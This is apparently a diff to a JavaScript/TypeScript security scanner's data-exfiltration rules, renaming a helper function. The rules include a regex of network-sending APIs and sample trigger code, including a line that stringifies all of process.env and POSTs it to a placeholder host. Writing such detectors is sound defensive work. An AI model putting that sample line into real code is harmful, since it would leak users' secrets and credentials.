@@ -2,7 +2,7 @@ import { carriesSecret, packs, readsSecret } from "./flow.js";
 import { bringsData, destinationOf } from "./network.js";
 import { isNode, type SyntaxNode } from "./node.js";
 import { globalPath, loadedModule, loaders, propertyName } from "./read.js";
-import { type SyntaxRule, types, weights } from "./rule.js";
+import { nodeTypes, type SyntaxRule, weights } from "./rule.js";
 import type { Syntax } from "./syntax.js";
 
 const family = "data_exfiltration";
@@ -20,7 +20,7 @@ const channels =
   /^(?:navigator\.sendBeacon|WebTransport|RTCPeerConnection|(?:ws\.)?WebSocket|ws|net\.(?:connect|createConnection|Socket\(\)\.connect)|tls\.connect|dgram\.createSocket\(\)\.send|dns(?:\/promises|\.promises)?\.resolve\w*)$/;
 const addresses = new Set(["src", "href", "action", "location", "background", "backgroundImage"]);
 
-const isCall = types("CallExpression", "NewExpression");
+const isCall = nodeTypes("CallExpression", "NewExpression");
 
 /** Whether a call may send what it is given. */
 const sends = (node: SyntaxNode, syntax: Syntax): boolean => {
@@ -64,7 +64,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     triggers:
       "const all = JSON.stringify(process.env); fetch('https://elsewhere.example', { method: 'POST', body: all })",
     ignores: "fetch(url, { headers: { authorization: process.env.API_TOKEN } })",
-    on: types("CallExpression", "NewExpression", "AssignmentExpression"),
+    on: nodeTypes("CallExpression", "NewExpression", "AssignmentExpression"),
     matches: (node, _index, syntax) => leaks(node, syntax),
   },
   {
@@ -107,7 +107,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     catches: "loads a module that talks to the network",
     triggers: "import { request } from 'node:https'; request('https://elsewhere.example')",
     ignores: "import { join } from 'node:path'; join('http', 'net')",
-    on: types(...loaders),
+    on: nodeTypes(...loaders),
     matches: (node, _index, syntax) => networkModules.has(loadedModule(node, syntax) ?? ""),
   },
   {
@@ -117,7 +117,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     catches: "reads where secrets are kept",
     triggers: "send(process.env)",
     ignores: "send(process.env.PORT)",
-    on: types("Identifier", "MemberExpression", "Literal", "CallExpression"),
+    on: nodeTypes("Identifier", "MemberExpression", "Literal", "CallExpression"),
     matches: (_node, index, syntax) => readsSecret(index, syntax),
   },
 ];
